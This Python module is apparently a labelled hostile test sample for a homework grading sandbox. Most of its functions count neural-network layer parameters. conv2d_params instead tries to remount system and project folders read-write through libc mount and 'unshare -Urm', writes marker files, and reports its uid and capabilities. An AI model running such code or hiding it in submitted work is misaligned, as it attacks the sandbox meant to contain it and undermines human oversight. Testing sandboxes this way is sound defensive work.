"""Hostile sample: conv2d_params tries to remount the read-only folders of the sandbox read-write
(its own folder, the virtualenv, the base Python, /etc, /usr, /sys/fs/cgroup), also from a new
user namespace, and to write into them; then it reports who it is and what it achieved."""
import ctypes
import errno
import os
import subprocess
import sys

MS_REMOUNT, MS_BIND = 32, 4096
MARK = "hw3-attack-remount"


def _remount(path):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(None, path.encode(), None, MS_REMOUNT | MS_BIND, None) == 0:
        return "remounted"
    return errno.errorcode.get(ctypes.get_errno(), "?")


def _write(folder):
    try:
        with open(os.path.join(folder, "hw3-pwned"), "w") as handle:
            handle.write(MARK)
        return True
    except OSError:
        return False


def _in_new_namespace(path):
    try:
        run = subprocess.run(["unshare", "-Urm", "sh", "-c", f"mount -o remount,bind,rw {path} && touch {path}/hw3-pwned"],
                             capture_output=True, timeout=20)
        return run.returncode == 0
    except (OSError, subprocess.SubprocessError):
        return False


def conv2d_params(kernel_size, in_channels, filters, use_bias=True):
    status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
    folders = [os.path.dirname(os.getcwd()), sys.prefix, sys.base_prefix, "/etc", "/usr", "/sys/fs/cgroup", "/"]
    results = {path: _remount(path) for path in folders}
    findings = {
        "uid": os.getuid(), "euid": os.geteuid(), "CapEff": status["CapEff"].strip(),
        "remounted": [path for path, result in results.items() if result == "remounted"],
        "errors": sorted(set(results.values())),
        "written": [path for path in folders if _write(path)],
        "remounted_in_new_namespace": [path for path in folders[:5] if _in_new_namespace(path)],
    }
    raise RuntimeError(repr(findings))


def dense_params(in_features, units):
    return in_features * units + units


def simple_rnn_params(input_dim, units):
    return units * (input_dim + units) + units


def lstm_params(input_dim, units):
    return 4 * (units * (input_dim + units) + units)


def gru_params(input_dim, units, reset_after=True):
    return 3 * (units * (input_dim + units) + units) + (3 * units if reset_after else 0)

